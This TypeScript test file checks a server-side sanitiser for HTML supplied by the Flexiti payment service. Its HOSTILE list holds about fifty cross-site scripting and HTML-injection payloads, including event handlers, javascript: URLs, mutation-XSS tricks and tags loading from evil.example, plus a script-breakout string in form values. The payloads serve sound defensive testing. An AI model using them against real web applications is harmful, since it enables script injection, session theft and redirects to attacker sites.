/**
 * Flexiti's HTML (terms, decision messages) is sanitised by the handler before it reaches a
 * browser. What the handler answers is parsed here as a browser parses it (parse5 follows the HTML
 * standard's parsing algorithm), and every element and attribute it would build is checked.
 */
import { parseFragment } from 'parse5';
import * as v from 'valibot';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ApplyResponseSchema, TermsResponseSchema } from '../../src/schemas/index.js';
import { FLEXITI_HTML_TAGS, sanitizeFlexitiHtml } from '../../src/server/flexiti-html.js';
import { formValuesScript } from '../../src/server/index.js';
import { application } from '../schemas/fixtures.js';
import { startStack, type Stack } from './stack.js';

/** Well-known ways HTML smuggles script, styles, frames, forms and foreign content past filters. */
const HOSTILE = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<IMG SRC="javascript:alert(1);">',
  '<svg onload=alert(1)><circle r="1"/></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></math>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java&#115;cript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="http://plain.example/">not encrypted</a>',
  '<a href="//evil.example/">protocol-relative</a>',
  '<a href="/relative">relative</a>',
  '<a href=\'https://a.example/"onclick=alert(1)\'>quote</a>',
  '<a href="https://a.example/" onclick="alert(1)" onmouseover=alert(1) style="color:red" target="_top">x</a>',
  '<p style="background:url(javascript:alert(1))">styled</p>',
  '<iframe src="https://evil.example/"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<form action="https://evil.example/"><input name="sin"><button>Send</button></form>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<template><img src=x onerror=alert(1)></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea></textarea><img src=x onerror=alert(1)></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<p>1 <scr<script>ipt>alert(1)</script> 2</p>',
  '<<img src=x onerror=alert(1)>>',
  '<img """><script>alert(1)</script>">',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<div id="tcs" class="x"><h3 id="h" onclick="alert(1)">Terms</h3></div>',
  '<span/onmouseover=alert(1)>x</span>',
  '<b\nonmouseover=alert(1)>x</b>',
  '<a href="https://a.example/"\nonfocus=alert(1) autofocus>x</a>',
  '<h1><p>nested <ul><li>mis<ol>nested</li></ul></p></h1>',
  '<plaintext><img src=x onerror=alert(1)>',
];

const ALLOWED: readonly string[] = FLEXITI_HTML_TAGS;

interface Node {
  nodeName: string;
  tagName?: string;
  attrs?: { name: string; value: string }[];
  childNodes?: Node[];
  content?: Node;
}

/** Every element a browser builds from `html` in a `<template>`, as `tag [attr=value …]`. */
function elements(html: string): { tag: string; attrs: { name: string; value: string }[] }[] {
  const found: { tag: string; attrs: { name: string; value: string }[] }[] = [];
  const walk = (node: Node) => {
    if (node.tagName) found.push({ tag: node.tagName, attrs: node.attrs ?? [] });
    for (const child of node.childNodes ?? []) walk(child);
    if (node.content) walk(node.content);
  };
  walk(parseFragment(html) as unknown as Node);
  return found;
}

function expectOnlyFormattingAndLinks(html: string) {
  for (const { tag, attrs } of elements(html)) {
    expect(ALLOWED, `<${tag}> in ${html}`).toContain(tag);
    for (const { name, value } of attrs) {
      expect(`${tag} ${name}`, html).toBe('a href');
      expect(value, html).toMatch(/^(https:|mailto:|tel:)/i);
    }
  }
}

describe('the handler’s sanitiser', () => {
  it.each(HOSTILE)('leaves only text formatting and safe links of %s', (input) => {
    expectOnlyFormattingAndLinks(sanitizeFlexitiHtml(input));
  });

  it('keeps Flexiti’s formatting, text and links as they were', () => {
    expect(
      sanitizeFlexitiHtml(
        `<div id='tcs'><h3>Terms</h3><p>Read <b>this</b>, <strong>that</strong> &amp; <em>more</em> at <a href="https://flexiti.com/terms?a=1&amp;b=2">flexiti.com</a>.<br>Call <a href="tel:+18772593750">1-877-259-3750</a> or <a href="mailto:help@flexiti.com">write</a>.</p><ul><li>One</li></ul><ol><li><small>Two</small> <i>i</i> <u>u</u> <span>s</span></li></ol></div>`,
      ),
    ).toBe(
      `<h3>Terms</h3><p>Read <b>this</b>, <strong>that</strong> &amp; <em>more</em> at <a href="https://flexiti.com/terms?a=1&amp;b=2">flexiti.com</a>.<br>Call <a href="tel:+18772593750">1-877-259-3750</a> or <a href="mailto:help@flexiti.com">write</a>.</p><ul><li>One</li></ul><ol><li><small>Two</small> <i>i</i> <u>u</u> <span>s</span></li></ol>`,
    );
  });

  it('keeps the text of tags it removes, and drops what is not text (scripts, styles)', () => {
    expect(sanitizeFlexitiHtml('<div><section>Kept</section></div><script>gone()</script><style>p{}</style>')).toBe('Kept');
    expect(sanitizeFlexitiHtml('<a href="javascript:alert(1)">the link’s text</a>')).toBe('<a>the link’s text</a>');
  });
});

describe('what the handler answers from a hostile Flexiti', () => {
  let stack: Stack;
  const hostile = HOSTILE.join('\n');
  beforeAll(async () => {
    // Flexiti (the sandbox) answers, and its terms and decision messages are replaced on the way.
    const tampering: typeof fetch = async (input, init) => {
      const response = await fetch(input, init);
      const path = new URL(String(input)).pathname;
      if (path.endsWith('/terms-and-conditions')) {
        return new Response(`<h3>Terms</h3>${hostile}`, { status: 200, headers: { 'content-type': 'text/html; charset=utf-8' } });
      }
      if (path.endsWith('/apply') && response.status !== 200) {
        const body = (await response.json()) as Record<string, unknown>;
        return Response.json({ ...body, message: `<p>Call us.</p>${hostile}` }, { status: response.status });
      }
      return response;
    };
    stack = await startStack({ handler: { fetch: tampering } });
  });
  afterAll(() => stack.close());

  it('serves terms and a decision message with only text formatting and safe links', async () => {
    const session = await stack.session('apply');
    const terms = v.parse(TermsResponseSchema, (await stack.api('terms?province=ON&lang=en-CA', { session })).body);
    expect(terms.sanitizedHtml).toMatch(/^<h3>Terms<\/h3>/);
    expectOnlyFormattingAndLinks(terms.sanitizedHtml);

    const decided = await stack.apply(session, application({ middleName: 'D-NO_HIT' }));
    const decision = v.parse(ApplyResponseSchema, decided.body);
    expect(decision.status).toBe('declined');
    if (decision.status === 'approved') return;
    expect(decision.sanitizedMessage).toMatch(/^<p>Call us.<\/p>/);
    expectOnlyFormattingAndLinks(decision.sanitizedMessage);
  });
});

describe('the form values a page renders into <flexiti-apply>', () => {
  it('stay one JSON block however Flexiti’s texts try to end it', async () => {
    const stack = await startStack();
    try {
      const { formValues } = await stack.handler.createSession({ flow: 'apply', lang: 'en-CA' });
      const hostile = { ...formValues!, salutations: [{ value: 'x', label: '</script><script>alert(1)</script><!-- <script>' }] };
      const page = `<flexiti-apply session="s">${formValuesScript(hostile)}</flexiti-apply><p id="after">after</p>`;
      const elements = (html: string) => {
        const found: Node[] = [];
        const walk = (node: Node) => (node.tagName && found.push(node), node.childNodes?.forEach(walk));
        walk(parseFragment(html) as unknown as Node);
        return found;
      };
      const scripts = elements(page).filter((node) => node.tagName === 'script');
      expect(scripts).toHaveLength(1);
      const text = (scripts[0]!.childNodes![0] as unknown as { value: string }).value;
      expect(JSON.parse(text)).toEqual(hostile);
      expect(elements(page).some((node) => node.tagName === 'p')).toBe(true);
      expect(formValuesScript(undefined)).toBe('');
    } finally {
      await stack.close();
    }
  });
});
